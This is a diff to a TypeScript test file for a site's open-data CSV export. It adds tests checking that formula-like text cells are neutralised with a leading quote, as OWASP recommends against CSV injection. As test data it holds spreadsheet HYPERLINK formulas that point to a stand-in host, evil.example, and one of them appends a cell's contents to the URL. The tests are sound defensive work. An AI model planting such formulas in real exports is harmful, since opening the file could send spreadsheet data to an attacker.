@@ -1,12 +1,14 @@
 import { parse } from "csv-parse/sync";
 import { Ajv } from "ajv";
 import { Ajv2020 } from "ajv/dist/2020.js";
-import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
+import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { suite } from "uvu";
 import * as assert from "uvu/assert";
-import { runBuild } from "../fixtures/build-site.ts";
+import { toCsv } from "../../src/render/csv.ts";
+import { openDataFiles, readSite } from "../../src/site.ts";
+import { projectRoot, runBuild } from "../fixtures/build-site.ts";
 
 const openData = suite("open data");
 let site = "";
@@ -24,6 +26,61 @@ const read = (path: string) => readFileSync(join(site, path), "utf8");
 /** What a CSV reader gives back for a JSON value: text, with empty for null. */
 const asCsvText = (row: Record<string, unknown>) =>
   Object.fromEntries(Object.entries(row).map(([key, value]) => [key, value === null ? "" : String(value)]));
+
+openData(
+  "a text cell that would start a formula is neutralised with a quote (CSV injection, as OWASP recommends); numbers are not",
+  () => {
+    const rows = [
+      { text: '=HYPERLINK("https://evil.example","Click")', number: -3 },
+      { text: "@SUM(A1:A9)", number: 4 },
+      { text: "+44 20 7946 0000", number: null },
+      { text: "-5 children", number: null },
+      { text: "\tindented", number: null },
+      { text: "\rreturn", number: null },
+      { text: 'A plain, quoted "text"', number: 2.5 },
+    ];
+    assert.is(
+      toCsv(["text", "number"], rows),
+      [
+        "text,number",
+        `"'=HYPERLINK(""https://evil.example"",""Click"")",-3`,
+        `"'@SUM(A1:A9)",4`,
+        `"'+44 20 7946 0000",`,
+        `"'-5 children",`,
+        `"'\tindented",`,
+        `"'\rreturn",`,
+        `"A plain, quoted ""text""",2.5`,
+        "",
+      ].join("\r\n"),
+    );
+  },
+);
+
+openData("an organisation named like a formula reaches inspections.csv as text, and the JSON as written", () => {
+  const project = mkdtempSync(join(tmpdir(), "explainers-csv-injection-"));
+  try {
+    cpSync(join(projectRoot, "content"), join(project, "content"), { recursive: true });
+    cpSync(join(projectRoot, "site.yaml"), join(project, "site.yaml"));
+    const file = join(project, "content/organisations/oxfordshire.md");
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Oxfordshire")';
+    writeFileSync(file, readFileSync(file, "utf8").replace("name: Oxfordshire County Council", `name: '${formula}'`));
+    const files = openDataFiles(readSite(project, "content", {}));
+    const csv = parse(files.get("data/inspections.csv")!, { columns: true }) as Record<string, string>[];
+    const names = new Set(csv.map((row) => row.organisation_name));
+    assert.ok(names.has(`'${formula}`), [...names].join(", "));
+    assert.not.ok([...names].some((name) => /^[=+\-@]/.test(name)));
+    assert.match(files.get("data/inspections.json")!, JSON.stringify(formula).slice(1, -1));
+  } finally {
+    rmSync(project, { recursive: true, force: true });
+  }
+});
+
+openData("the open data page says how formula-like cells are written", () => {
+  assert.match(
+    read("data/index.html"),
+    'starts with a <code>\'</code> instead, as <a href="https://owasp.org/www-community/attacks/CSV_Injection">OWASP recommends</a>',
+  );
+});
 
 openData("inspections.csv reads back through a CSV parser to the same data as inspections.json", () => {
   const fromCsv = parse(read("data/inspections.csv"), { columns: true, bom: true }) as Record<string, string>[];
